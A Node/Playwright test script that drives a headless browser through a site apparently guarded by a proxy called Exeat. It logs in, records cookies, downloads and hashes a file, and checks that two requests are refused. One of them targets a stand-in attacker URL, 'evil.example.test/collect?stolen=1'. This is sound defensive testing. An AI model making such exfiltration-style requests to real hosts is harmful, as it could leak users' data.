// A browser robot that knows nothing of Exeat: it logs in, looks at a page with parts from two hosts, talks over a WebSocket,
// downloads a file, and follows two links it may not follow. node browse.mjs FOLDER; prints what it found as one JSON line.
import { chromium } from 'playwright-core';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { flags, proxyOf } from './browser.mjs';
import { main } from './drive.mjs';

const folder = process.argv[3];
const site = 'https://app.example.test';

async function browse() {
  // A profile of its own, as a robot of its own has; trust comes from the NSS database in HOME.
  const browser = await chromium.launchPersistentContext(join(folder, 'profile'), {
    executablePath: '/usr/bin/chromium', headless: true, chromiumSandbox: false, args: flags, acceptDownloads: true,
    proxy: proxyOf(process.env),
  });
  try {
    return await walk(await browser.newPage(), browser);
  } finally {
    await browser.close();
  }
}

async function walk(page, browser) {
  const found = {};
  await page.goto(`${site}/login`);
  await page.fill('[name=user]', process.env.ROBOT ?? 'robot');
  await page.click('button');
  await page.waitForFunction(() => document.body?.dataset.style && document.body?.dataset.said);
  found.title = await page.title();
  found.style = await page.getAttribute('body', 'data-style');
  found.picture = await page.evaluate(() => document.images[0].naturalWidth);
  found.said = JSON.parse(await page.getAttribute('body', 'data-said'));
  found.cookies = (await browser.cookies(site)).map(({ name, value }) => `${name}=${value}`);

  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#report')]);
  const file = join(folder, 'report.bin');
  await download.saveAs(file);
  found.download = createHash('sha256').update(readFileSync(file)).digest('hex');

  const refused = await page.goto(`${site}/admin`);
  found.refused = { status: refused.status(), text: await page.innerText('body') };
  const elsewhere = await page.goto('https://evil.example.test/collect?stolen=1');
  found.elsewhere = { status: elsewhere.status(), text: await page.innerText('body') };
  return found;
}

await main({ browse });
